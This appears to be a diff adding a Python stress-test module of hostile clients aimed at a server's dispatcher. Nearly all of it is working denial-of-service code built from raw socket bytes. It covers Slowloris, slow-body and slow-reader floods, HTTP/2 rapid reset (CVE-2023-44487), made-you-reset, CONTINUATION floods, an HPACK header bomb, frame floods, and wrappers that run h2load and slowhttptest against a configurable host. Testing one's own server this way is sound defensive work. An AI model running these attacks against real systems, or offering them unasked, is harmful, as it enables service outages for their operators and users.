@@ -1,0 +1,464 @@
+"""
+Hostile clients. Each attack is a coroutine that goes on until it is cancelled, opens its connections again when they are closed, and counts what
+became of them. They are made of bytes on sockets, because no client library sends what they send.
+"""
+
+import asyncio
+import collections
+import ctypes
+import os
+import random
+import signal
+import socket
+import struct
+
+import processes
+
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
+END_STREAM, END_HEADERS, ACK = 1, 4, 1
+INITIAL_WINDOW_SIZE = 4
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+IMAGE = "/public/silly-test-image.jpg"
+PAUSE = 0.2  # Before a connection is opened again, in seconds.
+
+Target = collections.namedtuple("Target", "host port workers admin")
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def text(value):
+    """An HPACK string of less than 127 bytes, or of up to 16 KiB, without Huffman coding."""
+    value = value.encode() if isinstance(value, str) else value
+    if len(value) < 127:
+        return bytes([len(value)]) + value
+    rest = len(value) - 127
+    return bytes([127, rest & 127 | 128, rest >> 7]) + value if rest > 127 else bytes([127, rest]) + value
+
+
+def field(name, value):
+    """A literal header without indexing (RFC 7541 section 6.2.2)."""
+    return b"\x00" + text(name) + text(value)
+
+
+def head(method, path, *more):
+    """A request's header block: scheme http, authority attacked.example."""
+    block = field(":method", method) + b"\x86" + field(":path", path) + field(":authority", "attacked.example")
+    return block + b"".join(field(name, value) for name, value in more)
+
+
+def settings(*pairs):
+    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", key, value) for key, value in pairs))
+
+
+def window_update(stream, increment):
+    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))
+
+
+def post(path, length):
+    return f"POST {path} HTTP/1.1\r\nhost: attacked.example\r\ncontent-length: {length}\r\n\r\n".encode()
+
+
+def get(path):
+    return f"GET {path} HTTP/1.1\r\nhost: attacked.example\r\n\r\n".encode()
+
+
+class Closed(Exception):
+    pass
+
+
+class Connection:
+    """One socket. What it reads is dropped; `receive_buffer` makes a client that can take little."""
+
+    def __init__(self, target_host, port, counts, receive_buffer=None):
+        self.address = (target_host, port)
+        self.counts = counts
+        self.receive_buffer = receive_buffer
+
+    async def __aenter__(self):
+        self.socket = socket.socket()
+        self.socket.setblocking(False)
+        if self.receive_buffer:
+            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
+        loop = asyncio.get_running_loop()
+        try:
+            await asyncio.wait_for(loop.sock_connect(self.socket, self.address), 10)
+        except (OSError, asyncio.TimeoutError) as failure:
+            self.socket.close()
+            raise Closed() from failure
+        self.counts["connections"] += 1
+        return self
+
+    async def __aexit__(self, *_):
+        self.socket.close()
+
+    async def send(self, data):
+        try:
+            await asyncio.get_running_loop().sock_sendall(self.socket, data)
+        except OSError as failure:
+            raise Closed() from failure
+        self.counts["bytes sent"] += len(data)
+
+    async def read(self):
+        """Some bytes, once there are any."""
+        try:
+            data = await asyncio.get_running_loop().sock_recv(self.socket, 65536)
+        except OSError as failure:
+            raise Closed() from failure
+        if not data:
+            raise Closed()
+        return data
+
+    async def drain(self):
+        """Reads until the other side closes."""
+        while True:
+            self.note(await self.read())
+
+    def note(self, data):
+        if data.startswith(b"HTTP/1.1 ") and data[9:12].isdigit():
+            self.counts["status " + data[9:12].decode()] += 1
+
+    async def trickle(self, piece, seconds):
+        """Sends a piece now and then, and reads, until the other side closes."""
+        reading = asyncio.ensure_future(self.drain())
+        try:
+            while not reading.done():
+                await asyncio.wait({reading}, timeout=seconds)
+                if not reading.done():
+                    await self.send(piece)
+            await reading
+        finally:
+            reading.cancel()
+
+    async def never_read(self):
+        """Waits until the other side closes, and takes nothing."""
+        while True:
+            await asyncio.sleep(1)
+            try:
+                if self.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+                    raise Closed()
+                self.socket.getpeername()
+            except OSError as failure:
+                raise Closed() from failure
+
+
+async def again(counts, number, once):
+    """Runs `once` on so many connections at the same time, again whenever one of them is closed."""
+
+    async def keep():
+        while True:
+            try:
+                await once()
+                counts["ended"] += 1
+            except Closed:
+                counts["closed by the dispatcher"] += 1
+            await asyncio.sleep(PAUSE)
+
+    await asyncio.gather(*(keep() for _ in range(number)))
+
+
+# HTTP/1.1.
+
+
+async def slow_heads(target, counts):
+    """500 connections, each with a head that never ends, 12 bytes a second (Slowloris)."""
+
+    async def once():
+        async with Connection(target.host, target.port, counts) as c:
+            await c.send(b"GET /ping HTTP/1.1\r\nhost: attacked.example\r\n")
+            await c.trickle(b"x-more: 1\r\n", 1)
+
+    await again(counts, 500, once)
+
+
+async def half_open_http1(target, counts):
+    """500 connections, each with the head of a POST and not a byte of its body."""
+
+    async def once():
+        async with Connection(target.host, target.port, counts) as c:
+            await c.send(post("/echo", 1_000_000))
+            await c.drain()
+
+    await again(counts, 500, once)
+
+
+async def slow_bodies_http1(target, counts):
+    """500 connections, each with a POST whose body comes at a byte a second."""
+
+    async def once():
+        async with Connection(target.host, target.port, counts) as c:
+            await c.send(post("/echo", 1_000_000))
+            await c.trickle(b"x", 1)
+
+    await again(counts, 500, once)
+
+
+async def slow_readers_http1(target, counts):
+    """300 connections that ask for 20 images each and take nothing."""
+
+    async def once():
+        async with Connection(target.host, target.port, counts, receive_buffer=2048) as c:
+            await c.send(get(IMAGE) * 20)
+            await c.never_read()
+
+    await again(counts, 300, once)
+
+
+async def idle_connections(target, counts):
+    """3,000 connections that say nothing."""
+
+    async def once():
+        async with Connection(target.host, target.port, counts) as c:
+            await c.drain()
+
+    await again(counts, 3000, once)
+
+
+async def large_heads(target, counts):
+    """500 connections, each with 60 KiB of headers, whose head then stays unfinished."""
+    lines = b"".join(b"x-%d: %s\r\n" % (i, b"a" * 480) for i in range(120))
+
+    async def once():
+        async with Connection(target.host, target.port, counts) as c:
+            await c.send(b"GET /ping HTTP/1.1\r\nhost: attacked.example\r\n" + lines)
+            await c.drain()
+
+    await again(counts, 500, once)
+
+
+# HTTP/2.
+
+
+async def http2(target, counts, number, act, *first_settings, read=True, receive_buffer=None):
+    async def once():
+        async with Connection(target.host, target.port, counts, receive_buffer) as c:
+            await c.send(PREFACE + settings(*first_settings) + frame(SETTINGS, ACK, 0))
+            reading = asyncio.ensure_future(c.drain()) if read else asyncio.ensure_future(c.never_read())
+            acting = asyncio.ensure_future(act(c))
+            try:
+                done, _ = await asyncio.wait({reading, acting}, return_when=asyncio.FIRST_COMPLETED)
+                for task in done:
+                    await task
+                await reading
+            finally:
+                reading.cancel()
+                acting.cancel()
+
+    await again(counts, number, once)
+
+
+async def half_open_http2(target, counts):
+    """10 connections, each with 1,000 times the head of a POST and not a byte of a body."""
+
+    async def act(c):
+        block = head("POST", "/echo")
+        for i in range(1000):
+            await c.send(frame(HEADERS, END_HEADERS, 2 * i + 1, block))
+        await asyncio.sleep(1e6)
+
+    await http2(target, counts, 10, act)
+
+
+async def slow_bodies_http2(target, counts):
+    """10 connections with 100 POSTs each, whose bodies come at a byte a second."""
+
+    async def act(c):
+        await c.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, head("POST", "/echo")) for i in range(100)))
+        while True:
+            await asyncio.sleep(1)
+            await c.send(b"".join(frame(DATA, 0, 2 * i + 1, b"x") for i in range(100)))
+
+    await http2(target, counts, 10, act)
+
+
+async def slow_readers_http2(target, counts):
+    """10 connections that ask for 100 images each, and open each stream's window by a byte every 10 s."""
+
+    async def act(c):
+        await c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head("GET", IMAGE)) for i in range(100)))
+        while True:
+            await asyncio.sleep(10)
+            await c.send(b"".join(window_update(2 * i + 1, 1) for i in range(100)))
+
+    await http2(target, counts, 10, act, (INITIAL_WINDOW_SIZE, 0))
+
+
+async def full_windows(target, counts):
+    """300 connections that fill their windows with bodies to be echoed, and take no echo."""
+
+    async def act(c):
+        for stream in range(1, 200, 2):
+            body = b"".join(frame(DATA, 0, stream, bytes(16384)) for _ in range(3)) + frame(DATA, 0, stream, bytes(16000))
+            await c.send(frame(HEADERS, END_HEADERS, stream, head("POST", "/echo", ("content-length", "10000000"))) + body)
+            if stream > 30:
+                await asyncio.sleep(1)
+
+    await http2(target, counts, 300, act, (INITIAL_WINDOW_SIZE, 0), receive_buffer=4096)
+
+
+async def rapid_reset(target, counts):
+    """10 connections that open requests and reset them at once (CVE-2023-44487)."""
+
+    async def act(c):
+        for first in range(1, 1 << 30, 200):
+            await c.send(b"".join(
+                frame(HEADERS, END_HEADERS | END_STREAM, stream, head("GET", "/ping")) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+                for stream in range(first, first + 200, 2)))
+            await asyncio.sleep(0.01)
+
+    await http2(target, counts, 10, act)
+
+
+async def made_you_reset(target, counts):
+    """10 connections that make the server reset their requests, by WINDOW_UPDATEs of 0 (CVE-2025-8671)."""
+
+    async def act(c):
+        for first in range(1, 1 << 30, 200):
+            await c.send(b"".join(
+                frame(HEADERS, END_HEADERS, stream, head("POST", "/echo")) + window_update(stream, 0)
+                for stream in range(first, first + 200, 2)))
+            await asyncio.sleep(0.01)
+
+    await http2(target, counts, 10, act)
+
+
+async def tunnel_trailers(target, counts):
+    """10 connections that make the server reset their tunnels, by trailers on an extended CONNECT."""
+    block = (field(":method", "CONNECT") + field(":protocol", "websocket") + b"\x86" + field(":path", "/ws")
+             + field(":authority", "attacked.example"))
+
+    async def act(c):
+        for first in range(1, 1 << 30, 100):
+            await c.send(b"".join(
+                frame(HEADERS, END_HEADERS, stream, block) + frame(HEADERS, END_HEADERS | END_STREAM, stream, field("x-trailer", "1"))
+                for stream in range(first, first + 100, 2)))
+            await asyncio.sleep(0.01)
+
+    await http2(target, counts, 10, act)
+
+
+async def continuation_flood(target, counts):
+    """10 connections with a header block that never ends (CVE-2024-27983 and others)."""
+
+    async def act(c):
+        await c.send(frame(HEADERS, 0, 1, head("GET", "/ping")))
+        while True:
+            await c.send(b"".join(frame(CONTINUATION, 0, 1, b"" if i % 2 else field("x-more", "1")) for i in range(100)))
+            await asyncio.sleep(0.01)
+
+    await http2(target, counts, 10, act)
+
+
+async def header_bomb(target, counts):
+    """10 connections with small header blocks that stand for megabytes: one entry of HPACK's dynamic table, named again and again."""
+    entry = b"\x40" + text("x-bomb") + text("b" * 3900)
+
+    async def act(c):
+        for stream in range(1, 1 << 30, 2):
+            await c.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, entry + head("GET", "/ping") + b"\xbe" * 4000))
+            await asyncio.sleep(0.005)
+
+    await http2(target, counts, 10, act)
+
+
+async def frame_floods(target, counts):
+    """10 connections that send PING, SETTINGS, PRIORITY, WINDOW_UPDATE and empty DATA without end, and read nothing."""
+
+    async def act(c):
+        await c.send(frame(HEADERS, END_HEADERS, 1, head("POST", "/echo")))
+        some = [
+            frame(PING, 0, 0, bytes(8)),
+            settings((INITIAL_WINDOW_SIZE, 65_535)),
+            frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
+            window_update(0, 1),
+            frame(DATA, 0, 1),
+        ]
+        while True:
+            await c.send(random.choice(some) * 500)
+            await asyncio.sleep(0.01)
+
+    await http2(target, counts, 10, act, read=False, receive_buffer=4096)
+
+
+# The other ports.
+
+
+async def worker_port(target, counts):
+    """200 connections to the worker port: noise, a request without a token, and silence."""
+
+    async def once():
+        async with Connection(target.host, target.workers, counts) as c:
+            kind = random.randrange(3)
+            if kind == 0:
+                await c.send(os.urandom(1000))
+            elif kind == 1:
+                await c.send(PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, head("POST", "/control")))
+            await c.drain()
+
+    await again(counts, 200, once)
+
+
+async def admin_port(target, counts):
+    """50 connections to the admin port whose request never ends."""
+
+    async def once():
+        async with Connection(target.host, target.admin, counts) as c:
+            await c.send(b"GET /health HTTP/1.1\r\nhost: 127.0.0.1\r\n")
+            await c.trickle(b"x: 1\r\n", 2)
+
+    await again(counts, 50, once)
+
+
+# Tools of others.
+
+
+async def tool(command, counts):
+    """Runs it again and again. It prints what nobody reads."""
+    while True:
+        child = await asyncio.create_subprocess_exec(
+            *map(str, command), stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL,
+            preexec_fn=lambda: ctypes.CDLL(None).prctl(1, signal.SIGKILL))  # It ends with this process.
+        counts["runs"] += 1
+        await child.wait()
+        await asyncio.sleep(PAUSE)
+
+
+async def flood(target, counts):
+    """h2load: as many requests as the dispatcher answers, 20 connections with 20 requests each in flight."""
+    await tool([processes.tool("h2load"), "-c", 20, "-m", 20, "-n", 100_000, f"http://{target.host}:{target.port}/ping"], counts)
+
+
+async def slowhttptest(target, counts):
+    """slowhttptest: slow heads, slow bodies and slow reading, 300 connections each."""
+    url = f"http://{target.host}:{target.port}"
+    common = ["-c", 300, "-r", 100, "-l", 3600, "-i", 2]
+    program = processes.tool("slowhttptest")
+    await asyncio.gather(
+        tool([program, "-H", *common, "-u", url + "/ping"], counts),
+        tool([program, "-B", *common, "-t", "POST", "-u", url + "/echo"], counts),
+        tool([program, "-X", *common, "-w", 512, "-y", 1024, "-n", 5, "-z", 32, "-k", 3, "-u", url + IMAGE], counts))
+
+
+ATTACKS = {
+    function.__name__.replace("_", "-"): function
+    for function in (
+        slow_heads, half_open_http1, slow_bodies_http1, slow_readers_http1, idle_connections, large_heads, half_open_http2, slow_bodies_http2,
+        slow_readers_http2, full_windows, rapid_reset, made_you_reset, tunnel_trailers, continuation_flood, header_bomb, frame_floods, worker_port,
+        admin_port, flood, slowhttptest)
+}
+
+
+def run(name, target, counts_out):
+    """In a process of its own, until it is ended. Counts go to `counts_out`, a queue, every second."""
+    os.nice(10)
+    counts = collections.Counter()
+
+    async def main():
+        attack = asyncio.ensure_future(ATTACKS[name](target, counts))
+        while not attack.done():
+            await asyncio.wait({attack}, timeout=1)
+            counts_out.put((name, dict(counts)))
+        await attack
+
+    asyncio.run(main())
